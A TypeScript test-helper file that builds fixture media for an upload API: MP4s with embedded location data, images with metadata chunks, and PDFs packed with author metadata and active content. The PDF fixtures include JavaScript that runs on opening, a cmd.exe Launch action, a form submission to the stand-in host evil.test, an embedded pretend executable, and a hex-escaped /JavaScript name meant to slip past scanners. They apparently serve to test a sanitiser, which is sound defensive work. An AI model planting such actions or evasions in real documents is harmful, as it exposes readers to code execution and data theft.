import { crc32 } from 'node:zlib';
import type { TestClient } from './test-app';
import { PDFDict, PDFDocument, PDFName, type PDFObject, PDFString, StandardFonts } from 'pdf-lib';

/**
 * Small files whose bytes say what they are, for uploads of each kind. They
 * need not play: the API keeps audio and video as they are and only reads
 * their signature.
 */
export function mp4File(bytes = 64 * 1024): Buffer {
  const ftyp = Buffer.concat([Buffer.from([0, 0, 0, 0x18]), Buffer.from('ftypisom'), Buffer.from([0, 0, 2, 0]), Buffer.from('isomiso2')]);
  const body = Buffer.alloc(bytes - ftyp.length);
  for (let i = 0; i < body.length; i++) body[i] = (i * 31 + 7) & 0xff;
  return Buffer.concat([ftyp, body]);
}

export function mp3File(): Buffer {
  const id3 = Buffer.concat([Buffer.from('ID3'), Buffer.from([4, 0, 0, 0, 0, 0, 0])]);
  const frame = Buffer.concat([Buffer.from([0xff, 0xfb, 0x90, 0x64]), Buffer.alloc(413, 0x55)]);
  return Buffer.concat([id3, ...Array.from({ length: 20 }, () => frame)]);
}

/**
 * A one-page PDF with a line of text, written by hand so no tool is needed.
 * `padding` bytes of a comment after the header make it as large as needed.
 */
export function pdfFile(line = 'Vitrina test document', padding = 0): Buffer {
  const stream = `BT /F1 42 Tf 72 700 Td (${line}) Tj ET`;
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ];
  let out = `%PDF-1.4\n${padding > 0 ? `%${'0'.repeat(padding)}\n` : ''}`;
  const offsets: number[] = [];
  objects.forEach((object, i) => {
    offsets.push(out.length);
    out += `${i + 1} 0 obj\n${object}\nendobj\n`;
  });
  const xref = out.length;
  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const offset of offsets) out += `${String(offset).padStart(10, '0')} 00000 n \n`;
  out += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(out, 'latin1');
}

export const VALID_VTT = 'WEBVTT\n\n00:00.000 --> 00:02.500\nЗдравствуйте.\n\n00:02.500 --> 00:05.000\nЭто запись воспоминаний.\n';

/** One ISO-BMFF box: its size, its four-letter type, its payload. */
export function mp4Box(type: string, ...payload: Buffer[]): Buffer {
  const body = Buffer.concat(payload);
  const header = Buffer.alloc(8);
  header.writeUInt32BE(8 + body.length, 0);
  header.write(type, 4, 'latin1');
  return Buffer.concat([header, body]);
}

/**
 * An MP4 as a phone writes one, cut down to its boxes: where it was filmed
 * in `moov/udta/©xyz` (Android) and in `moov/meta` (Apple's location key),
 * a track name in `trak/udta`, and the media data after them.
 */
export function mp4WithLocation(location: string): Buffer {
  const xyz = Buffer.concat([Buffer.from([0, location.length, 0x15, 0xc7]), Buffer.from(location, 'latin1')]);
  const appleKey = Buffer.from(`mdta com.apple.quicktime.location.ISO6709 ${location}`, 'latin1');
  const moov = mp4Box(
    'moov',
    mp4Box('mvhd', Buffer.alloc(100)),
    mp4Box('trak', mp4Box('tkhd', Buffer.alloc(84)), mp4Box('udta', mp4Box('name', Buffer.from('Back camera'))), mp4Box('mdia', Buffer.alloc(200, 3))),
    mp4Box('udta', mp4Box('\u00a9xyz', xyz)),
    mp4Box('meta', Buffer.alloc(4), mp4Box('keys', appleKey)),
  );
  const data = Buffer.alloc(8000);
  for (let i = 0; i < data.length; i++) data[i] = (i * 13 + 5) & 0xff;
  return Buffer.concat([mp4Box('ftyp', Buffer.from('isom'), Buffer.from([0, 0, 2, 0]), Buffer.from('isomiso2mp41')), moov, mp4Box('mdat', data)]);
}

/** `png` with a tEXt chunk (keyword, text) before its IEND: still a valid PNG, ending as a PNG should. */
export function withPngText(png: Buffer, keyword: string, text: string): Buffer {
  const iend = png.length - 12;
  const data = Buffer.concat([Buffer.from(keyword, 'latin1'), Buffer.from([0]), Buffer.from(text, 'latin1')]);
  const chunk = Buffer.alloc(12 + data.length);
  chunk.writeUInt32BE(data.length, 0);
  chunk.write('tEXt', 4, 'latin1');
  data.copy(chunk, 8);
  chunk.writeUInt32BE(crc32(chunk.subarray(4, 8 + data.length)), 8 + data.length);
  return Buffer.concat([png.subarray(0, iend), chunk, png.subarray(iend)]);
}

/** A box with a 64-bit size field (size 1, then the real size after the type). */
export function mp4LargeBox(type: string, ...payload: Buffer[]): Buffer {
  const body = Buffer.concat(payload);
  const header = Buffer.alloc(16);
  header.writeUInt32BE(1, 0);
  header.write(type, 4, 'latin1');
  header.writeBigUInt64BE(BigInt(16 + body.length), 8);
  return Buffer.concat([header, body]);
}

/** `loci` (3GPP location): version and flags, language, a name, role, then longitude, latitude and altitude in 16.16 fixed point. */
export function lociBox(name: string, longitude: number, latitude: number): Buffer {
  const fixed = Buffer.alloc(12);
  fixed.writeInt32BE(Math.round(longitude * 65536), 0);
  fixed.writeInt32BE(Math.round(latitude * 65536), 4);
  return mp4Box('loci', Buffer.alloc(6), Buffer.from(`${name}\0`, 'utf8'), Buffer.from([0]), fixed, Buffer.from('Earth\0\0', 'latin1'));
}

const XMP_UUID = Buffer.from('be7acfcb97a942e89c71999491e3afac', 'hex');

/**
 * A fragmented MP4 (as cameras streaming to disk and DASH/HLS packagers
 * write) carrying `location` in every place a box may sit: `moov/udta`,
 * `trak/udta`, `mdia/meta`, then in each fragment `moof/udta`,
 * `moof/traf/meta`, `traf/udta` and an XMP `uuid` with a 64-bit size, a
 * top-level `udta` after the fragments and a `meta` inside `mfra`.
 */
export function fragmentedMp4WithLocation(location: string, fragments = 3): Buffer {
  const xyz = (text: string) => mp4Box('\u00a9xyz', Buffer.from([0, text.length, 0x15, 0xc7]), Buffer.from(text, 'latin1'));
  const appleMeta = mp4Box('meta', Buffer.alloc(4), mp4Box('keys', Buffer.from(`mdta com.apple.quicktime.location.ISO6709 ${location}`, 'latin1')));
  const moov = mp4Box(
    'moov',
    mp4Box('mvhd', Buffer.alloc(100)),
    mp4Box(
      'trak',
      mp4Box('tkhd', Buffer.alloc(84)),
      mp4Box('udta', xyz(location)),
      mp4Box('mdia', mp4Box('mdhd', Buffer.alloc(24)), appleMeta, mp4Box('minf', mp4Box('stbl', Buffer.alloc(40)))),
    ),
    mp4Box('mvex', mp4Box('trex', Buffer.alloc(24))),
    mp4Box('udta', lociBox(`Filmed at ${location}`, 76.95, 43.25)),
  );
  const parts: Buffer[] = [mp4Box('ftyp', Buffer.from('iso6'), Buffer.from([0, 0, 2, 0]), Buffer.from('iso6dash')), moov];
  for (let i = 1; i <= fragments; i++) {
    const mfhd = Buffer.alloc(8);
    mfhd.writeUInt32BE(i, 4);
    const moof = mp4Box(
      'moof',
      mp4Box('mfhd', mfhd),
      mp4Box(
        'traf',
        mp4Box('tfhd', Buffer.alloc(8)),
        mp4Box('trun', Buffer.alloc(12)),
        mp4Box('udta', xyz(location)),
        mp4Box('meta', Buffer.alloc(4), mp4Box('keys', Buffer.from(`location ${location}`, 'latin1'))),
        mp4LargeBox('uuid', XMP_UUID, Buffer.from(`<x:xmpmeta><exif:GPSLatitude>${location}</exif:GPSLatitude></x:xmpmeta>`, 'latin1')),
      ),
      mp4Box('udta', lociBox(location, 76.95, 43.25)),
    );
    const data = Buffer.alloc(3000);
    for (let j = 0; j < data.length; j++) data[j] = (j * 13 + i * 7) & 0xff;
    parts.push(moof, mp4Box('mdat', data));
  }
  parts.push(mp4Box('udta', xyz(location)));
  parts.push(mp4Box('mfra', mp4Box('tfra', Buffer.alloc(16)), mp4Box('meta', Buffer.alloc(4), xyz(location)), mp4Box('mfro', Buffer.alloc(8))));
  return Buffer.concat(parts);
}

/** The boxes of an ISO-BMFF file as `path@offset:size` lines, descending into containers; throws where a header does not fit its parent. */
export function mp4Tree(file: Buffer, containers = new Set(['moov', 'trak', 'mdia', 'minf', 'mvex', 'moof', 'traf', 'mfra'])): string[] {
  const lines: string[] = [];
  const walk = (start: number, end: number, path: string) => {
    for (let offset = start; offset < end; ) {
      if (offset + 8 > end) throw new Error(`a box header at ${offset} runs past its parent (${path || 'file'})`);
      let size = file.readUInt32BE(offset);
      let header = 8;
      if (size === 1) {
        size = Number(file.readBigUInt64BE(offset + 8));
        header = 16;
      }
      const type = file.toString('latin1', offset + 4, offset + 8);
      if (size < header || offset + size > end) throw new Error(`the box ${path}/${type} at ${offset} does not fit its parent`);
      lines.push(`${path}/${type}@${offset}:${size}`);
      if (containers.has(type)) walk(offset + header, offset + size, `${path}/${type}`);
      offset += size;
    }
  };
  walk(0, file.length, '');
  return lines;
}

/** Who made the PDFs below: none of it may reach a visitor. */
export const PDF_AUTHOR = 'Ivan Petrovich Sidorov';

/** An XMP packet naming the author, as Acrobat and Word write one. */
export function xmpPacket(author: string): string {
  return (
    `<?xpacket begin="" id="W5M0MpCehiHzreSzNT4c9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">` +
    `<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator><rdf:Seq><rdf:li>${author}</rdf:li></rdf:Seq></dc:creator></rdf:Description>` +
    `</rdf:RDF></x:xmpmeta><?xpacket end="w"?>`
  );
}

/**
 * A two-page PDF, built with pdf-lib and saved with compressed object
 * streams (so no dictionary is visible to a byte scan), carrying every kind
 * of active content and author metadata: JavaScript on opening and in the
 * document's name tree, page and field triggers (`/AA`), Launch, SubmitForm,
 * ImportData, GoToR and `javascript:` links, an embedded file, an XFA form,
 * a rich-media annotation, the Info dictionary and XMP for the document and
 * for a page. Alongside: a plain link and an internal link that must stay.
 */
export async function pdfWithActiveContent(): Promise<Buffer> {
  const document = await PDFDocument.create();
  const font = await document.embedFont(StandardFonts.Helvetica);
  const [first, second] = [document.addPage([400, 300]), document.addPage([400, 300])];
  first.drawText('Vitrina active content', { x: 40, y: 200, size: 18, font });
  second.drawText('Second page', { x: 40, y: 200, size: 18, font });
  document.setAuthor(PDF_AUTHOR);
  document.setCreator(`Word for ${PDF_AUTHOR}`);
  document.setProducer('Secret Producer 1.0');
  document.setTitle('Private title');
  document.setSubject('Private subject');
  document.setKeywords(['private']);
  await document.attach(Buffer.from('MZ pretend executable'), 'payload.exe', { mimeType: 'application/octet-stream' });

  const { context, catalog } = document;
  const js = (code: string) => context.obj({ S: 'JavaScript', JS: PDFString.of(code) });
  const xmp = (author: string) => context.register(context.stream(xmpPacket(author), { Type: 'Metadata', Subtype: 'XML' }));
  catalog.set(PDFName.of('OpenAction'), context.register(js('app.alert("open")')));
  catalog.set(PDFName.of('AA'), context.obj({ WC: js('app.alert("close")') }));
  catalog.set(PDFName.of('Metadata'), xmp(PDF_AUTHOR));
  const names = catalog.lookupMaybe(PDFName.of('Names'), PDFDict) ?? context.obj({});
  catalog.set(PDFName.of('Names'), names);
  names.set(PDFName.of('JavaScript'), context.obj({ Names: [PDFString.of('init'), context.register(js('app.alert("names")'))] }));

  // A PDF action dictionary, as pdf-lib's (unexported) LiteralObject type takes it.
  const link = (action: { [name: string]: string | number | PDFObject | (number | PDFObject)[] }) =>
    context.register(context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 50, 50], A: context.obj(action) }));
  const widget = context.register(
    context.obj({
      Type: 'Annot', Subtype: 'Widget', FT: 'Btn', T: PDFString.of('send'), Rect: [60, 0, 110, 50],
      A: context.obj({ S: 'SubmitForm', F: PDFString.of('http://evil.test/collect') }),
      AA: context.obj({ K: js('app.alert("key")') }),
    }),
  );
  first.node.set(PDFName.of('AA'), context.obj({ O: js('app.alert("page open")') }));
  first.node.set(PDFName.of('Metadata'), xmp(`${PDF_AUTHOR} (page)`));
  first.node.set(
    PDFName.of('Annots'),
    context.obj([
      link({ S: 'Launch', F: PDFString.of('cmd.exe') }),
      link({ S: 'URI', URI: PDFString.of('javascript:app.alert(1)') }),
      link({ S: 'ImportData', F: PDFString.of('data.fdf') }),
      link({ S: 'GoToR', F: PDFString.of('other.pdf'), D: [0, PDFName.of('Fit')] }),
      link({ S: 'GoTo', D: [second.ref, PDFName.of('Fit')], Next: js('app.alert("next")') }),
      link({ S: 'URI', URI: PDFString.of('https://vitrina.test/keep') }),
      widget,
      context.register(context.obj({ Type: 'Annot', Subtype: 'RichMedia', Rect: [0, 60, 50, 110] })),
      context.register(context.obj({ Type: 'Annot', Subtype: 'Text', Rect: [0, 120, 20, 140], T: PDFString.of(PDF_AUTHOR), Contents: PDFString.of('A note') })),
    ]),
  );
  catalog.set(
    PDFName.of('AcroForm'),
    context.obj({ Fields: [widget], XFA: context.register(context.stream('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"></xdp:xdp>')) }),
  );
  return Buffer.from(await document.save({ useObjectStreams: true }));
}

/**
 * The hand-written `pdfFile()` with an incremental update appended, as a
 * viewer saving an edit writes one: a new catalog running JavaScript on
 * opening through a hex-escaped name (`/J#61vaScript`, which viewers read as
 * `/JavaScript`), XMP and an Info dictionary naming the author.
 */
export function pdfWithIncrementalUpdate(): Buffer {
  const base = pdfFile('Updated document');
  const text = base.toString('latin1');
  const previousXref = Number(/startxref\n(\d+)/.exec(text)![1]);
  const packet = xmpPacket(PDF_AUTHOR);
  const objects: [number, string][] = [
    [1, '<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /Metadata 7 0 R >>'],
    [6, '<< /S /J#61vaScript /JS (app.alert\\(1\\)) >>'],
    [7, `<< /Type /Metadata /Subtype /XML /Length ${packet.length} >>\nstream\n${packet}\nendstream`],
    [8, `<< /Author (${PDF_AUTHOR}) /Producer (Secret Producer 1.0) /Title (Private title) >>`],
  ];
  let out = text;
  const offsets = new Map<number, number>();
  for (const [number, body] of objects) {
    offsets.set(number, out.length);
    out += `${number} 0 obj\n${body}\nendobj\n`;
  }
  const xref = out.length;
  const entry = (number: number) => `${String(offsets.get(number)).padStart(10, '0')} 00000 n \n`;
  out += `xref\n0 2\n0000000000 65535 f \n${entry(1)}6 3\n${entry(6)}${entry(7)}${entry(8)}`;
  out += `trailer\n<< /Size 9 /Root 1 0 R /Info 8 0 R /Prev ${previousXref} >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(out, 'latin1');
}

/** What pdf.js (an independent parser, the one browsers use) finds in a PDF that could run or identify someone. */
export async function inspectPdf(pdf: Buffer) {
  const { getDocument } = await import('pdfjs-dist/legacy/build/pdf.mjs');
  const document = await getDocument({ data: new Uint8Array(pdf), isEvalSupported: false, verbosity: 0 }).promise;
  try {
    const { info, metadata } = await document.getMetadata();
    const annotations: { subtype: string; url?: string; action?: string; actions?: unknown; dest?: unknown; title?: string }[] = [];
    const pageScripts: unknown[] = [];
    for (let number = 1; number <= document.numPages; number++) {
      const page = await document.getPage(number);
      for (const annotation of await page.getAnnotations()) {
        annotations.push({
          subtype: annotation.subtype,
          url: annotation.url ?? annotation.unsafeUrl,
          action: annotation.action,
          actions: annotation.actions,
          dest: annotation.dest,
          title: annotation.titleObj?.str,
        });
      }
      const scripts = await page.getJSActions();
      if (scripts && Object.keys(scripts).length > 0) pageScripts.push(scripts);
    }
    const documentInfo = Object.fromEntries(
      Object.entries(info as Record<string, unknown>).filter(([key]) => !['PDFFormatVersion', 'Language', 'EncryptFilterName', 'IsLinearized'].includes(key) && !key.startsWith('Is')),
    );
    return {
      pages: document.numPages,
      info: documentInfo,
      xmp: metadata ? String(metadata.getRaw()) : null,
      documentScripts: await document.getJSActions(),
      openAction: await document.getOpenAction(),
      attachments: await document.getAttachments(),
      annotations,
      pageScripts,
    };
  } finally {
    await document.destroy();
  }
}

/** `jpeg` with one more segment (`marker`: 0xFE a comment, 0xE1 APP1 for EXIF or XMP) right after its SOI marker. */
export function withJpegSegment(jpeg: Buffer, marker: number, payload: Buffer): Buffer {
  const header = Buffer.from([0xff, marker, 0, 0]);
  header.writeUInt16BE(payload.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), header, payload, jpeg.subarray(2)]);
}

/** `png` with one more chunk of any type before its IEND, its CRC right. */
export function withPngChunk(png: Buffer, type: string, data: Buffer): Buffer {
  const iend = png.length - 12;
  const chunk = Buffer.alloc(12 + data.length);
  chunk.writeUInt32BE(data.length, 0);
  chunk.write(type, 4, 'latin1');
  data.copy(chunk, 8);
  chunk.writeUInt32BE(crc32(chunk.subarray(4, 8 + data.length)), 8 + data.length);
  return Buffer.concat([png.subarray(0, iend), chunk, png.subarray(iend)]);
}

/** `webp` with one more RIFF chunk (`XMP `, `EXIF`) at its end, the RIFF size updated. */
export function withWebpChunk(webp: Buffer, type: string, data: Buffer): Buffer {
  const header = Buffer.alloc(8);
  header.write(type, 0, 'latin1');
  header.writeUInt32LE(data.length, 4);
  const out = Buffer.concat([webp, header, data, Buffer.alloc(data.length % 2)]);
  out.writeUInt32LE(out.length - 8, 4);
  return out;
}

/** `gif` with a comment extension (in sub-blocks of at most 255 bytes) before its trailer. */
export function withGifComment(gif: Buffer, comment: Buffer): Buffer {
  const blocks: Buffer[] = [Buffer.from([0x21, 0xfe])];
  for (let at = 0; at < comment.length; at += 255) {
    const part = comment.subarray(at, at + 255);
    blocks.push(Buffer.from([part.length]), part);
  }
  blocks.push(Buffer.from([0]));
  return Buffer.concat([gif.subarray(0, gif.length - 1), ...blocks, gif.subarray(gif.length - 1)]);
}

/** `pdfFile()` with `payload` as its comment line after the header (offsets stay right: the comment is as long). */
export function pdfWithComment(payload: Buffer): Buffer {
  const pdf = pdfFile('Carrier', payload.length);
  payload.copy(pdf, '%PDF-1.4\n%'.length);
  return pdf;
}

/**
 * The encodings a browser honours for markup, to plant a payload in a file with:
 * ASCII-compatible, and UTF-16 either way, each with or without its BOM.
 */
export const MARKUP_ENCODINGS: readonly [string, (text: string) => Buffer][] = [
  ['ASCII', (text) => Buffer.from(text, 'latin1')],
  ['UTF-8 with BOM', (text) => Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text, 'utf8')])],
  ['UTF-16LE', (text) => Buffer.from(text, 'utf16le')],
  ['UTF-16LE with BOM', (text) => Buffer.from(`\ufeff${text}`, 'utf16le')],
  ['UTF-16BE', (text) => Buffer.from(text, 'utf16le').swap16()],
  ['UTF-16BE with BOM', (text) => Buffer.from(`\ufeff${text}`, 'utf16le').swap16()],
];

/** Uploads a file as a curator's browser does; the request, to await or to `.expect()` on. */
export function uploadMedia(client: TestClient, countryId: string, file: Buffer, name = 'file.bin') {
  return client
    .request('post', `/api/studio/countries/${countryId}/media`)
    .set('content-type', 'application/octet-stream')
    .set('x-file-name', name)
    .send(file);
}

/** Polls an uploaded asset until it is processed; bounded by count, with minutes of room for a busy machine. */
export async function processedAsset(client: TestClient, countryId: string, id: string) {
  for (let poll = 0; poll < 1200; poll++) {
    const asset = (await client.get(`/api/studio/countries/${countryId}/media/${id}`).expect(200)).body;
    if (asset.status !== 'processing') return asset;
    await new Promise((resolve) => setTimeout(resolve, 250));
  }
  throw new Error(`asset ${id} still processing after 1200 polls`);
}
